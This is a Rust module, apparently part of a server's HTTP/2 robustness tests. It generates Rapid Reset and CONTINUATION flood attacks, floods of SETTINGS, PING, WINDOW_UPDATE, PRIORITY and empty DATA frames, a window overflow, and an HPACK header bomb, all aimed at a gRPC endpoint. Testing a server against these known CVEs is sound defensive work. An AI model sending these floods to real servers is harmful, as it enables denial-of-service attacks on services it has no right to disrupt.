//! Frames of HTTP/2 that are many, or mean more than they are.

use std::io::Write;

use super::wire::{Wire, block, frame, kind, literal, opened};

fn many(wire: &mut Wire, frames: usize, one: impl Fn(u32) -> Vec<u8>) -> std::io::Result<()> {
    wire.write_all(&opened())?;
    for piece in 0..frames.div_ceil(100) {
        let piece: Vec<u8> = (0..100).flat_map(|frame| one((100 * piece + frame) as u32)).collect();
        wire.write_all(&piece)?;
    }
    Ok(())
}

/// CVE-2023-44487.
pub(super) fn rapid_resets(wire: &mut Wire) -> std::io::Result<()> {
    let call = block("/waypost.v1.MapService/ListMaps", &[]);
    many(wire, 20_000, |number| {
        let stream = 2 * number + 1;
        [
            frame(kind::HEADERS, kind::END_HEADERS, stream, &call),
            frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8]),
        ]
        .concat()
    })
}

/// CVE-2024-27316 and its like: headers without an end.
pub(super) fn continuations(wire: &mut Wire) -> std::io::Result<()> {
    wire.write_all(&opened())?;
    wire.write_all(&frame(kind::HEADERS, 0, 1, &block("/x", &[])))?;
    let more = frame(kind::CONTINUATION, 0, 1, &literal("abc", "xyz"));
    (0..2000).try_for_each(|_| wire.write_all(&more.repeat(20)))
}

pub(super) fn settings(wire: &mut Wire) -> std::io::Result<()> {
    many(wire, 50_000, |_| frame(kind::SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 7]))
}

pub(super) fn pings(wire: &mut Wire) -> std::io::Result<()> {
    many(wire, 50_000, |_| frame(kind::PING, 0, 0, b"12345678"))
}

pub(super) fn window_updates(wire: &mut Wire) -> std::io::Result<()> {
    many(wire, 50_000, |_| frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
}

pub(super) fn window_overflow(wire: &mut Wire) -> std::io::Result<()> {
    many(wire, 100, |_| frame(kind::WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]))
}

pub(super) fn priorities(wire: &mut Wire) -> std::io::Result<()> {
    many(wire, 50_000, |number| frame(kind::PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 1]))
}

pub(super) fn empty_data(wire: &mut Wire) -> std::io::Result<()> {
    let call = block("/waypost.v1.MapService/ListMaps", &[]);
    wire.write_all(&[opened(), frame(kind::HEADERS, kind::END_HEADERS, 1, &call)].concat())?;
    let empty = frame(kind::DATA, 0, 1, &[]);
    (0..500).try_for_each(|_| wire.write_all(&empty.repeat(100)))
}

/// A value of 4 kB in the table, and then references to it: a small frame, and megabytes of headers.
pub(super) fn header_bomb(wire: &mut Wire) -> std::io::Result<()> {
    wire.write_all(&opened())?;
    let value = "v".repeat(4000);
    // Literal with incremental indexing; 0x7f 0xa1 0x1e is its length of 4000.
    let indexed = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], value.as_bytes()].concat();
    let bomb = [block("/x", &[]), indexed, vec![0x80 | 62; 8000]].concat();
    (0..200).try_for_each(|number| {
        wire.write_all(&frame(kind::HEADERS, kind::END_HEADERS, 2 * number + 1, &bomb))
    })
}
